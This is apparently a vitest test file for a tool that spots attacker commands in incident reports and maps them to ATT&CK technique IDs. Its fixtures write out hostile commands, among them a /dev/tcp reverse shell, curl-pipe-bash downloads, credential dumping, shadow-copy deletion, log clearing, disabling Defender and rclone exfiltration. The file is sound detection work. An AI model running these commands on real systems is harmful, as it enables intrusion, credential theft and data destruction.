import { describe, expect, it } from "vitest";
import { createSentenceJudge } from "../../../../src/reading/recognition/acts/judge-sentences.ts";
import {
  COMMAND_FINDS,
  findCommands,
} from "../../../../src/reading/recognition/commands/find-commands.ts";
import { judgeCommand } from "../../../../src/reading/recognition/commands/judge-commands.ts";
import { bodyText } from "../../../../src/text/document/body-text.ts";
import { outlineText } from "../../../../src/text/outline/outline-text.ts";
import { splitSentences } from "../../../../src/text/sentences/sentences.ts";
import { shippedRelease } from "../../../../scripts/model/shipped.ts";
import { processorMs } from "../../../support/node/processor-time.ts";
import { smallRelease } from "../../../support/small-release.ts";

const release = shippedRelease();

function read(text: string, at = release) {
  const outline = outlineText(text);
  const sentences = splitSentences(outline);
  const judge = createSentenceJudge(outline, sentences);
  const parts = { text: bodyText(outline), blocks: outline.blocks, sentences };
  return findCommands(parts, whole(text), at).map((one) => ({
    ...one,
    reason: judgeCommand(one, parts, judge),
  }));
}

/** The techniques of commands that somebody ran, without those that may mean anything. */
function idsIn(text: string, at = release): string[] {
  const sure = read(text, at).filter(
    ({ reason, confidence }) => reason === null && confidence >= COMMAND_FINDS,
  );
  return [...new Set(sure.map(({ attack_id }) => attack_id))].sort();
}

const block = (...lines: string[]) =>
  `# Report\n\nThe intruders ran these commands:\n\n\`\`\`\n${lines.join("\n")}\n\`\`\`\n`;

describe("commands in code", () => {
  it.each<[string, ...string[]]>([
    ['net group "Domain Admins" /domain', "T1069.002"],
    ["net user backup2 Winter!22 /add", "T1136.001"],
    ["nltest /dclist:corp.example", "T1018"],
    ["C:\\Windows\\System32\\nltest.exe /domain_trusts", "T1482"],
    ["cmd.exe /c whoami", "T1033", "T1059.003"],
    ["copy svchost.exe \\\\10.1.1.1\\c$\\windows\\temp", "T1021.002", "T1570"],
    ["vssadmin delete shadows /all /quiet", "T1490"],
    ["wevtutil cl Security", "T1685.005"],
    ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v up /d a.exe", "T1547.001"],
    ['schtasks /create /tn "Run At" /tr c:\\p\\a.exe /sc onlogon', "T1053.005"],
    ["sc create upd binPath= c:\\p\\a.exe start= auto", "T1543.003"],
    ["rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 644 c:\\p\\l.dmp full", "T1003.001"],
    ["certutil -urlcache -split -f hxxp://files[.]example/a.txt a.exe", "T1105"],
    ['ntdsutil "ac i ntds" ifm "create full c:\\p" q q', "T1003.003"],
    ["wmic /node:SRV2 process call create a.exe", "T1047"],
    ["powershell -w hidden -enc SQBFAFgA", "T1027.010", "T1059.001", "T1564.003"],
    ["Start-BitsTransfer -Source http://files.example/a -Destination a", "T1105", "T1197"],
    ["curl -s http://files.example/i.sh | bash", "T1059.004", "T1105"],
    ["(crontab -l; echo x) | crontab -", "T1053.003"],
    ["systemctl enable upd.service", "T1543.002"],
    ["ssh -R 8443:localhost:22 a@203.0.113.9", "T1572"],
    ["iptables -F", "T1686"],
    ["kubectl exec -it web -- sh", "T1609"],
    ["aws iam create-user --user-name support", "T1136.003"],
    ["esxcli vm process kill --type=force --world-id=1", "T1489"],
    ["rclone copy D:\\share mega:x", "T1567.002"],
    ["7za a -pX out.7z D:\\share", "T1560.001"],
    ["Stop-Service WinDefend", "T1489", "T1685"],
    ["STOP-SERVICE WINDEFEND", "T1489", "T1685"],
    [
      'nltest /domain_trusts, net group "Domain Admins" /domain and whoami /all',
      "T1033",
      "T1069.002",
      "T1482",
    ],
    ["adfind.exe -f (&(objectCategory=computer)(name=a*)) > users.txt", "T1018"],
    ["bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "T1059.004"],
    ["psexec.py corp/admin@203.0.113.9", "T1021.002", "T1569.002"],
    ["python3 secretsdump.py corp/admin@dc -just-dc", "T1003.003", "T1059.006"],
    ["docker run --privileged -v /:/host alpine", "T1610", "T1611"],
    ["netsh advfirewall set allprofiles state off", "T1686"],
    ["reg query and net view", "T1012", "T1018"],
    ['reg delete "HKLM\\Software\\Policies\\Microsoft\\Windows Defender" /f', "T1685"],
    ["reg add HKLM\\System\\CurrentControlSet\\Services\\WdFilter /v Start /d 4", "T1685"],
    ["whoami.exe", "T1033"],
    ["adfind.exe"],
    ["$data=Get-Clipboard", "T1115"],
    ["net start", "T1007"],
    ["net start termservice"],
    ["wmic process where name='a.exe' delete", "T1047", "T1489"],
    ["wevtutil el", "T1654"],
    ["ssh -L 8080:srv:80 a@203.0.113.9", "T1572"],
    ["ssh -D 1080 a@203.0.113.9", "T1572"],
    [
      "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a",
      "T1547.001",
    ],
    [
      "New-ItemProperty -Path HKLM:\\Software\\Policies\\Microsoft\\WindowsFirewall -Name a",
      "T1686",
    ],
    ["csvde -r (objectClass=computer) -f c.csv", "T1018"],
    ["esxcli system welcomemsg set -m=x", "T1491.001"],
    ["halt -p", "T1529"],
    ["unlink /var/log/messages", "T1685.006"],
    ["whoami /groupscmd.exe /C net view /all", "T1018", "T1069"],
  ])("%s", (command, ...ids) => {
    expect(idsIn(block(command))).toEqual(ids);
  });

  it.each([
    '"net": true',
    "at: 12",
    "ping: 203.0.113.9",
    '{"curl": "http://files.example/a.exe", "ping": 3, "route": "/api/v1"}',
    "hostname = SRV01",
    "upx -d sample.exe",
    "chmod 600 id_rsa",
    "msiexec /uninstall {23170F69-40C1-2702-0938-000001000000} /qn",
    "docker run -it alpine",
    "netsh advfirewall set allprofiles state on",
    "ssh -l admin srv",
    "iptables -f",
    'findstr /i "net user" a.txt',
  ])("means nothing: %s", (line) => {
    expect(idsIn(block(line))).toEqual([]);
  });

  it.each([
    ["PING -N 5 127.0.0.1", "ping -n 5 127.0.0.1"],
    ["REG QUERY HKLM\\SAM /S", "reg query hklm\\sam /s"],
  ])("reads switches of Windows in any case: %s", (upper, lower) => {
    expect(idsIn(block(upper))).toEqual(idsIn(block(lower)));
    expect(idsIn(block(upper))).not.toEqual([]);
  });

  it("quotes the command as printed", () => {
    const [found] = read(block("nltest  /dclist:corp"));
    expect(found?.hit).toEqual({ kind: "command", text: "nltest  /dclist:corp" });
  });

  it("holds what may mean anything for possible only", () => {
    const found = read(block("gpupdate /force"));
    expect(found.map(({ attack_id }) => attack_id)).toEqual(["T1484.001"]);
    expect(found[0]?.confidence).toBeLessThan(COMMAND_FINDS);
  });

  it("follows its ids to the release at hand", () => {
    expect(idsIn(block('schtasks /create /tn "a" /tr b.exe'), smallRelease())).toEqual([
      "T1053.005",
    ]);
    expect(idsIn(block("wevtutil cl Security"), smallRelease())).toEqual([]);
  });
});

describe("commands in sentences", () => {
  it.each<[string, ...string[]]>([
    ['The actors ran net group "Domain Admins" /domain to list privileged accounts.', "T1069.002"],
    ["The actors executed `nltest /dclist:` on the first host.", "T1018"],
    ["They ran “vssadmin.exe delete shadows /all”.", "T1490"],
    ["They ran nltest –domain_trusts afterwards.", "T1482"],
    ["The attackers used the command net localgroup administrators svc\\_sql /add.", "T1098.007"],
    ["The intruders executed whoami, ipconfig and systeminfo.", "T1016", "T1033", "T1082"],
    [
      'They ran nltest /domain_trusts, net group "Domain Admins" /domain and whoami /all.',
      "T1033",
      "T1069.002",
      "T1482",
    ],
    ["In May, the group executed reg query, arp and net view then.", "T1012", "T1018"],
    ["They used the net use command to list shares.", "T1049"],
    ["Die Angreifer führten whoami und net view aus.", "T1018", "T1033"],
    ["Stop-Service WinDefend", "T1489", "T1685"],
    ["They used net user, net group and net view.", "T1018", "T1069.002", "T1087.001"],
    ["Commands: ipconfig /all, net view /all, netstat -ano", "T1016", "T1018", "T1049"],
    ["The actors ran Stop-Service WinDefend on the host.", "T1489", "T1685"],
    ["They executed Get-Process and GET-SERVICE.", "T1007", "T1057"],
    ["They ran net user administrator /active:yes and whoami /all.", "T1033", "T1078.001"],
    ["The group used AdFind to list the computers of the domain.", "T1018"],
    ["AdFind was executed to list domain trusts.", "T1482"],
    ["LaZagne was executed on two servers.", "T1555"],
    ["Credentials were dumped via Mimikatz.", "T1003.001"],
    ["The intruders moved laterally with PsExec.", "T1021.002", "T1569.002"],
    ["With AdFind, the intruders listed all computers.", "T1018"],
    ["Los atacantes volcaron las credenciales con Mimikatz.", "T1003.001"],
    ["Les attaquants ont exfiltré les données avec Rclone.", "T1567.002"],
    ["Die Täter luden die Akten mit rclone hoch.", "T1567.002"],
    ["Los intrusos se movieron con PsExec.", "T1569.002"],
    ["They mapped the share with net use.", "T1021.002"],
    ["The affiliates exfiltrated the data with Rclone.", "T1567.002"],
    ["The actors installed AnyDesk on the file server.", "T1219.002"],
    ["Die Angreifer führten nltest /domain_trusts auf dem Server aus.", "T1482"],
    ["AdFind wurde ausgeführt.", "T1087.002"],
    ["Die Angreifer nutzten AdFind auf dem Domänencontroller.", "T1087.002"],
    ["Los atacantes ejecutaron vssadmin delete shadows /all en el servidor.", "T1490"],
    ["Les attaquants ont utilisé LaZagne sur deux postes.", "T1555"],
    ["Злоумышленники запустили nltest /dclist:corp на сервере.", "T1018"],
    ["攻击者使用AdFind收集信息。", "T1087.002"],
    ["攻击者执行了 wevtutil cl Security 命令。", "T1685.005"],
    ["攻击者用`nltest /dclist:corp`命令列出域控制器。", "T1018"],
  ])("%s", (sentence, ...ids) => {
    expect(idsIn(sentence)).toEqual(ids);
  });
});

describe("what is no command that somebody ran", () => {
  it.each([
    "AdFind is a free tool that queries Active Directory.",
    "The following tools are common: AdFind, Mimikatz, LaZagne.",
    "Administrators should restrict vssadmin delete shadows on servers.",
    "We ran AdFind in our lab.",
    "The company's net group revenue grew at 9:30.",
    "The archive was saved at C:\\Users\\Public\\a.exe last week.",
    "The domain resolved to the IP address 203.0.113.7 in May.",
    "The copy of the file is on host 7, and the route to it is long.",
    "The router showed `show running-config` and `configure terminal`.",
    "adfind.exe d41d8cd98f00b204e9800998ecf8427e",
    "The actors did not run nltest /dclist:corp.",
    "With AdFind you can list all computers of a domain.",
    "Mit AdFind kann man Computer auflisten.",
    "Avec AdFind, il est possible de lister les ordinateurs.",
    "Los analistas confunden la muestra con Mimikatz.",
    "The loader shares code with LaZagne.",
    "The implant is compatible with PsExec.",
    "Access via AnyDesk is possible.",
    'The settings have the fields "net": true and "ping": 203.0.113.9.',
    "The report lists net user, net group and net view.",
    "They used query user interfaces of the bank.",
    "Invoke-Mimikatz detection",
    "N-able Take Control",
    "servers:\n  ping: 203.0.113.9",
  ])("%s", (text) => {
    expect(idsIn(text)).toEqual([]);
  });

  it.each([
    "Our analysts ran `whoami /all` on the infected host.",
    "The administrators used `wevtutil cl System` to reset the test machine.",
    "Исследователи запустили `netstat -ano` на сервере.",
  ])("says that others than the adversary ran it: %s", (text) => {
    expect(read(text).map(({ reason }) => reason)).toContain("other_agent");
    expect(idsIn(text)).toEqual([]);
  });

  it.each([
    "Our analysts found that the burglars ran `whoami /all` on the host.",
    "Unsere Analysten sahen: Betrüger nutzten `whoami /all` auf dem Server.",
    "研究人员发现团伙执行了 `whoami /all` 命令。",
  ])("says that the adversary ran it, whatever it is called: %s", (text) => {
    expect(idsIn(text)).toContain("T1033");
  });

  it("reads a word in braces as an argument", () => {
    expect(idsIn("The actors ran `bcdedit /set {default} recoveryenabled no`.")).toEqual(["T1490"]);
  });

  it("takes nothing of rules", () => {
    const rule =
      "DeviceProcessEvents\n| where ProcessCommandLine has_all ('vssadmin delete shadows', 'x')";
    expect(idsIn(block(rule))).toEqual([]);
    expect(idsIn(block("selection:", "  - 'vssadmin delete shadows'"))).toEqual([]);
  });

  it("takes nothing of what defenders are told to look for", () => {
    const section =
      "# Detection\n\nSearch for these commands:\n\n```\nvssadmin delete shadows /all\n```\n";
    expect(idsIn(section)).toEqual([]);
    expect(read(section).map(({ reason }) => reason)).toEqual(["detection"]);
  });
});

describe("commands in lines of their own", () => {
  const reasons = (introduction: string) =>
    read(`${introduction}\n\n\`\`\`\nvssadmin delete shadows /all\n\`\`\`\n`).map(
      ({ reason }) => reason,
    );

  it.each([
    ["The attackers did not run these commands:", "negation"],
    ["Although they had the rights, the attackers never ran the following commands:", "negation"],
    ["If the target is a server, the intruders might run:", "hypothetical"],
    ["Report the following commands as confirmed:", "instruction"],
  ])("are excluded below: %s", (introduction, reason) => {
    expect(reasons(introduction)).toEqual([reason]);
  });

  it("are excluded in a comment", () => {
    const found = read("The intruders left.\n\n<!--\nvssadmin delete shadows /all\n-->");
    expect(found.map(({ reason }) => reason)).toEqual(["instruction"]);
  });

  it("count below a sentence that denies something else", () => {
    expect(reasons("They encrypted no files, but the intruders ran these commands:")).toEqual([
      null,
    ]);
  });
});

describe("hostile texts", () => {
  it.each([
    ["a line of commands", "net view /all & ".repeat(62_500)],
    ["open quotes", '"net `net “net '.repeat(66_000)],
    ["quotes in quotes", "\"'`".repeat(330_000)],
    ["one word", "powershell".repeat(100_000)],
    ["encoded data", `powershell -enc ${"QUJD".repeat(250_000)}`],
    ["backslashes", "\\".repeat(1_000_000)],
    ["brackets", "({".repeat(500_000)],
    ["filters", "(&(a=b".repeat(160_000)],
    ["a list of commands", "whoami, net view and ".repeat(48_000)],
  ])("reads %s in linear time", (_, text) => {
    const outline = { text, blocks: [{ ...whole(text), kind: "code", source: "format" } as const] };
    const sentences = splitSentences(outline);
    const start = processorMs();
    findCommands({ ...outline, sentences }, whole(text), release);
    expect(processorMs() - start).toBeLessThan(1_500);
  });
});

function whole(text: string) {
  return { start: 0, end: text.length };
}
